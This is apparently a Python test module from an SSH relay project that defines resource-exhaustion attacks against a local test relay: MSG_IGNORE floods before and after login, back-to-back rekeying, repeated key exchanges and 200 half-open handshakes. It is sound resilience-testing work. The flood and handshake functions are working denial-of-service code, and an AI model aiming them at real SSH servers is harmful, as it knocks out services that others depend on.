"""Clients that keep the relay busy before or after their login."""

from __future__ import annotations

import asyncio
import os
import struct
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Any

import asyncssh
from asyncssh.constants import MSG_DEBUG, MSG_IGNORE, MSG_KEXINIT
from asyncssh.packet import Boolean, NameList, String

from tests.attacks.attack import Attack
from tests.attacks.victim import HOST

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from tests.attacks.victim import Victim

SECONDS = 5.0
VERSION = b"SSH-2.0-attack\r\n"
OTHER_SOURCE = ("127.0.0.2", 0)
"""The address of an attacker. The honest client has another one."""


def plain_packet(payload: bytes) -> bytes:
    """Return a packet that is not encrypted (RFC 4253 section 6)."""
    padding = 8 - (5 + len(payload)) % 8
    padding += 8 if padding < 4 else 0
    return struct.pack(">IB", 1 + len(payload) + padding, padding) + payload + bytes(padding)


IGNORE = plain_packet(bytes([MSG_IGNORE]) + String(b""))


def kexinit(key_exchange: bytes = b"curve25519-sha256") -> bytes:
    """Return the KEXINIT of a client without strict key exchange (RFC 4253 section 7.1)."""
    ciphers, macs, none = NameList([b"aes128-ctr"]), NameList([b"hmac-sha2-256"]), NameList([])
    algorithms = [
        NameList([key_exchange]),
        NameList([b"ssh-ed25519"]),
        ciphers,
        ciphers,
        macs,
        macs,
    ]
    rest = [NameList([b"none"]), NameList([b"none"]), none, none, Boolean(False), bytes(4)]
    return plain_packet(bytes([MSG_KEXINIT]) + os.urandom(16) + b"".join(algorithms + rest))


@asynccontextmanager
async def connected(
    victim: Victim, source: tuple[str, int] | None = OTHER_SOURCE
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Connect to the relay from an address and send a version string."""
    reader, writer = await asyncio.open_connection(HOST, victim.port, local_addr=source)
    try:
        writer.write(VERSION)
        yield reader, writer
    finally:
        writer.transport.abort()


async def flood_before_login(victim: Victim, seconds: float = SECONDS) -> None:
    """Send MSG_IGNORE without end on a few connections that never log in."""

    async def flood() -> None:
        while True:
            with suppress(OSError):
                async with connected(victim) as (reader, writer):
                    while not reader.at_eof():
                        writer.write(IGNORE * 4096)
                        await writer.drain()
                        await asyncio.sleep(0)
            await asyncio.sleep(0.01)

    await _run_for(seconds, [flood() for _ in range(4)])


async def flood_after_login(
    victim: Victim, seconds: float = SECONDS, message: int = MSG_IGNORE
) -> None:
    """Send MSG_IGNORE or another message without end after a login."""
    fields = {MSG_DEBUG: Boolean(False) + String(b"") + String(b"")}.get(message, String(b""))

    async def flood() -> None:
        async with victim.attacker() as attacker:
            while not attacker.is_closed():
                for _ in range(256):
                    attacker.send_packet(message, fields)
                await _drained(attacker)

    await _run_for(seconds, [flood()])


async def rekey_after_login(victim: Victim, seconds: float = SECONDS) -> None:
    """Request a new key exchange as soon as the last one is complete."""

    async def rekey() -> None:
        async with victim.attacker() as attacker:
            while not attacker.is_closed():
                connection: Any = attacker
                if connection._kex_complete and not connection._kexinit_sent:
                    connection._send_kexinit()
                    connection._kexinit_sent = True
                await asyncio.sleep(0)

    await _run_for(seconds, [rekey()])


async def exchange_keys(victim: Victim, seconds: float = SECONDS) -> None:
    """Complete one key exchange after the other, each on a connection of its own."""

    async def exchange() -> None:
        while True:
            with suppress(OSError, asyncssh.Error):
                await asyncssh.get_server_host_key(
                    HOST, victim.port, local_addr=OTHER_SOURCE, config=None
                )
            await asyncio.sleep(0)

    await _run_for(seconds, [exchange() for _ in range(20)])


async def open_half(victim: Victim, seconds: float = SECONDS) -> None:
    """Begin many handshakes, and replace each that the relay ends."""

    async def begin() -> None:
        while True:
            with suppress(OSError):
                async with connected(victim) as (reader, writer):
                    writer.write(kexinit())
                    while await reader.read(4096):
                        pass
            await asyncio.sleep(0.1)

    await _run_for(seconds, [begin() for _ in range(200)])


async def _run_for(seconds: float, attacks: list[Any]) -> None:
    with suppress(TimeoutError, asyncssh.Error, OSError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*attacks)


async def _drained(connection: Any) -> None:
    for _ in range(1000):
        await asyncio.sleep(0.001)
        transport = connection._transport
        if transport is None or not transport.get_write_buffer_size():
            return


ATTACKS = [
    Attack("MSG_IGNORE flood before login", flood_before_login),
    Attack("MSG_IGNORE flood after login", flood_after_login),
    Attack("key exchanges before login", exchange_keys),
    Attack("key exchanges after login", rekey_after_login),
    Attack("200 half-open handshakes", open_half),
]
